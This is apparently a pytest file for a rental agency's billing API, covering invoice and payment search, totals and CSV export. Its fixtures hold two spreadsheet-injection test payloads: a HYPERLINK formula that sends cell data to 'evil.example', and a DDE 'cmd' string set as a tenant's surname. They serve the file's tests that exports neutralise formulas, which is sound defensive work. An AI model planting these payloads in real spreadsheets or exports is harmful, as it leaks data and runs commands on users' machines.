"""Invoice and payment lists for staff: tenant search, date filters, totals of the whole
filtered set, and CSV export of it with spreadsheet formulas neutralised."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import date

import httpx
import pytest

from doorstep.agencies.models import Agency, StaffRole
from doorstep.billing.models import Invoice
from doorstep.core.csv_export import safe_text
from doorstep.payments.ledger.models import PaymentStatus
from tests.collections.builders import (
    card_payment,
    invoice,
    named_tenant,
    paid_elsewhere,
    pay,
    refund,
    void,
)
from tests.factories import Factory

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


@dataclass
class Book:
    agency: Agency
    headers: dict[str, str]
    invoices: dict[str, Invoice]


@pytest.fixture
async def book(factory: Factory) -> Book:
    """Ann Archer (lease 1) and Zoë "=cmd" O'Neil with Bob Brown (lease 2), today 23 Nov 2026.

    Ann: 950.00 due 1 Oct (unpaid), 950.00 due 1 Nov (paid 950.00 by transfer on 2 Nov, reference
    a formula), a void one. Lease 2: 1,200.00 due 1 Nov (300.00 paid on 20 Nov, 100.00 of it
    refunded), a failed card payment of 1,200.00. Another agency has a Ann Archer too."""
    agency = await factory.agency()
    staff = await factory.staff(agency, StaffRole.ACCOUNTANT)
    ann = await named_tenant(factory, agency, "Ann", "Archer")
    zoe = await named_tenant(factory, agency, "Zoë", "=cmd|' /C calc'!A0")
    bob = await named_tenant(factory, agency, "Bob", "Brown")
    l1 = await factory.lease(agency, [ann])
    l2 = await factory.lease(agency, [zoe, bob])
    october = await invoice(factory, agency, l1, staff, due=date(2026, 10, 1), amount=95_000)
    november = await invoice(factory, agency, l1, staff, due=date(2026, 11, 1), amount=95_000)
    wrong = await invoice(factory, agency, l1, staff, due=date(2026, 11, 2), amount=10_000)
    await void(factory, agency, staff, wrong)
    await pay(
        factory,
        agency,
        staff,
        l1,
        ann,
        amount=95_000,
        allocations=[(november, 95_000)],
        received_on=date(2026, 11, 2),
        reference=FORMULA,
    )
    shared = await invoice(factory, agency, l2, staff, due=date(2026, 11, 1), amount=120_000)
    part = await pay(
        factory,
        agency,
        staff,
        l2,
        bob,
        amount=30_000,
        allocations=[(shared, 30_000)],
        received_on=date(2026, 11, 20),
        reference="+32 470 12 34 56",
    )
    await refund(factory, agency, staff, part, 10_000)
    await card_payment(
        factory.session,
        agency,
        l2,
        zoe,
        amount=120_000,
        succeeded_at=None,
        status=PaymentStatus.FAILED,
    )

    await paid_elsewhere(factory, "Ann", "Archer")
    viewer = await factory.staff(agency, StaffRole.VIEWER)
    return Book(
        agency,
        await factory.headers(viewer),
        {"october": october, "november": november, "shared": shared, "void": wrong},
    )


def _rows(response: httpx.Response) -> list[dict[str, str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


async def test_invoices_found_by_a_tenants_name_or_email(
    client: httpx.AsyncClient, book: Book
) -> None:
    async def numbers(q: str) -> set[int]:
        response = await client.get("/api/v1/invoices", params={"q": q}, headers=book.headers)
        assert response.status_code == 200, response.text
        return {item["number"] for item in response.json()["items"]}

    ann = {book.invoices[k].number for k in ("october", "november")} | {
        book.invoices["void"].number
    }
    assert await numbers("archer") == ann
    assert await numbers("ANN ARCH") == ann
    assert await numbers("Archer Ann") == ann
    # Either tenant of a shared lease finds its invoices.
    assert await numbers("bob") == {book.invoices["shared"].number}
    assert await numbers("zoë") == {book.invoices["shared"].number}
    # Wildcards are taken literally.
    assert await numbers("%") == set()
    assert await numbers("a_n") == set()


async def test_invoice_totals_cover_every_page_of_the_filtered_set(
    client: httpx.AsyncClient, book: Book
) -> None:
    params = {"due_from": "2026-11-01", "due_to": "2026-11-30"}
    page = await client.get("/api/v1/invoices", params={**params, "limit": 1}, headers=book.headers)
    assert len(page.json()["items"]) == 1

    response = await client.get("/api/v1/invoice-totals", params=params, headers=book.headers)

    assert response.status_code == 200, response.text
    # 950.00 (paid), 1,200.00 (300.00 paid, 100.00 of it refunded) and the void 100.00.
    assert response.json() == {
        "currency": "EUR",
        "invoices": 3,
        "total": 225_000,
        "credited": 0,
        "paid": 115_000,
        "outstanding": 100_000,
    }
    overdue = await client.get(
        "/api/v1/invoice-totals", params={"overdue": "true", "q": "archer"}, headers=book.headers
    )
    assert (overdue.json()["invoices"], overdue.json()["outstanding"]) == (1, 95_000)


async def test_invoices_csv_is_the_filtered_set(client: httpx.AsyncClient, book: Book) -> None:
    response = await client.get(
        "/api/v1/invoices.csv", params={"state": ["open", "partially_paid"]}, headers=book.headers
    )

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        "attachment; filename=\"invoices-2026-11-23.csv\"; filename*=UTF-8''invoices-2026-11-23.csv"
    )
    rows = _rows(response)
    assert [
        (r["number"], r["state"], r["due_date"], r["outstanding"], r["overdue"]) for r in rows
    ] == [
        (str(book.invoices["shared"].number), "partially_paid", "2026-11-01", "1000.00", "yes"),
        (str(book.invoices["october"].number), "open", "2026-10-01", "950.00", "yes"),
    ]
    assert rows[0]["tenants"] == "Zoë =cmd|' /C calc'!A0; Bob Brown"
    assert (rows[1]["total"], rows[1]["paid"], rows[1]["property"]) == (
        "950.00",
        "0.00",
        "Residence Louise",
    )


async def test_payments_found_by_tenant_and_day_received_with_totals(
    client: httpx.AsyncClient, book: Book
) -> None:
    async def listed(params: dict[str, str]) -> list[tuple[str, int]]:
        response = await client.get("/api/v1/payments", params=params, headers=book.headers)
        assert response.status_code == 200, response.text
        return [(item["tenant_name"], item["amount"]) for item in response.json()["items"]]

    # The lease's other tenant finds the payments of the lease too.
    assert sorted(await listed({"q": "zoë"})) == [
        ("Bob Brown", 30_000),
        ("Zoë =cmd|' /C calc'!A0", 120_000),
    ]
    assert await listed({"q": "ann"}) == [("Ann Archer", 95_000)]
    assert await listed({"received_from": "2026-11-03", "received_to": "2026-11-20"}) == [
        ("Bob Brown", 30_000)
    ]
    assert await listed({"received_to": "2026-11-02"}) == [("Ann Archer", 95_000)]

    totals = await client.get("/api/v1/payment-totals", headers=book.headers)
    assert totals.status_code == 200, totals.text
    # The failed card payment is counted, but brought no money.
    assert totals.json() == {
        "currency": "EUR",
        "payments": 3,
        "received": 125_000,
        "refunded": 10_000,
        "allocated": 115_000,
        "unallocated": 0,
    }
    failed = await client.get(
        "/api/v1/payment-totals", params={"status": "failed"}, headers=book.headers
    )
    assert (failed.json()["payments"], failed.json()["received"]) == (1, 0)


async def test_payments_csv_neutralises_formulas(client: httpx.AsyncClient, book: Book) -> None:
    response = await client.get(
        "/api/v1/payments.csv", params={"status": "succeeded"}, headers=book.headers
    )

    assert response.status_code == 200, response.text
    assert 'filename="payments-2026-11-23.csv"' in response.headers["content-disposition"]
    rows = _rows(response)
    assert [(r["tenant"], r["reference"], r["amount"], r["refunded"]) for r in rows] == [
        ("Bob Brown", "'+32 470 12 34 56", "300.00", "100.00"),
        ("Ann Archer", "'" + FORMULA, "950.00", "0.00"),
    ]
    assert rows[1]["invoices"] == str(book.invoices["november"].number)
    listed = await client.get(
        "/api/v1/payments", params={"status": "succeeded"}, headers=book.headers
    )
    assert [r["id"] for r in rows] == [item["id"] for item in listed.json()["items"]]
    assert "OTHER-AGENCY" not in response.text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_are_text(value: str, expected: str) -> None:
    assert safe_text(value) == expected


async def test_bad_filters_are_refused(client: httpx.AsyncClient, book: Book) -> None:
    for path, params in (
        ("/api/v1/invoices.csv", {"due_from": "yesterday"}),
        ("/api/v1/payments.csv", {"received_from": "2026-02-30"}),
        ("/api/v1/payment-totals", {"q": ""}),
        ("/api/v1/invoice-totals", {"q": "x" * 101}),
    ):
        response = await client.get(path, params=params, headers=book.headers)
        assert response.status_code == 422, (path, response.text)
        assert response.headers["content-type"] == "application/problem+json"
